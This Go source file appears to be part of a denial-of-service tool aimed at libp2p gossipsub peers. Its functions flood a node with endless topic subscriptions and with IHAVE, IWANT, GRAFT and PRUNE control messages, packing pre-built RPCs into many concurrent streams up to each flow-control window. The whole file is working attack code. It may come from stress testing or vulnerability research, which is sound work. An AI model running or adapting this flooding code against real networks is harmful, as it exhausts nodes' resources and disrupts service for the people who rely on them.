package main

import (
	"fmt"

	pubsubpb "github.com/libp2p/go-libp2p-pubsub/pb"
)

const entriesAnRPC = 1000

// floodSubscriptions subscribes to topics that nobody else has, without end.
func floodSubscriptions(a *attacker) error {
	return a.gossiping(func(i int) *pubsubpb.RPC {
		rpc, yes := &pubsubpb.RPC{}, true
		for j := range entriesAnRPC {
			topic := fmt.Sprintf("/flood/%d/%d", i, j)
			rpc.Subscriptions = append(rpc.Subscriptions, &pubsubpb.RPC_SubOpts{Subscribe: &yes, Topicid: &topic})
		}
		return rpc
	}, 256)
}

// floodGossipControl announces, wants, grafts and prunes without end.
func floodGossipControl(a *attacker) error {
	return a.gossiping(func(i int) *pubsubpb.RPC {
		control := &pubsubpb.ControlMessage{}
		for j := range entriesAnRPC / 10 {
			topic, id := fmt.Sprintf("/flood/%d", j), fmt.Sprintf("message-%d-%d", i, j)
			control.Ihave = append(control.Ihave, &pubsubpb.ControlIHave{TopicID: &topic, MessageIDs: []string{id, id + "x"}})
			control.Iwant = append(control.Iwant, &pubsubpb.ControlIWant{MessageIDs: []string{id}})
			control.Graft = append(control.Graft, &pubsubpb.ControlGraft{TopicID: &topic})
			control.Prune = append(control.Prune, &pubsubpb.ControlPrune{TopicID: &topic})
		}
		return &pubsubpb.RPC{Control: control}
	}, 256)
}

// gossiping writes prepared RPCs to meshsub streams, each as long as the server lets it.
func (a *attacker) gossiping(rpc func(i int) *pubsubpb.RPC, prepared int) error {
	messages := make([][]byte, prepared)
	for i := range messages {
		bytes, err := rpc(i).Marshal()
		if err != nil {
			return err
		}
		messages[i] = delimited(bytes)
	}
	begin := proposal(string(meshIDs[0]))
	a.flooding(floodersAtOnce, true, func(s *rawSession) (frames []byte, what string, count int) {
		// a new stream each time: what one takes before it gives back its window is enough for some RPCs
		content := append([]byte{}, begin...)
		entries := 0
		for i := int(s.nextID); len(content) < initialWindow-64<<10; i++ {
			content = append(content, messages[i%len(messages)]...)
			entries += entriesAnRPC
		}
		return s.stream(content, 0), "entries", entries
	})
	return nil
}
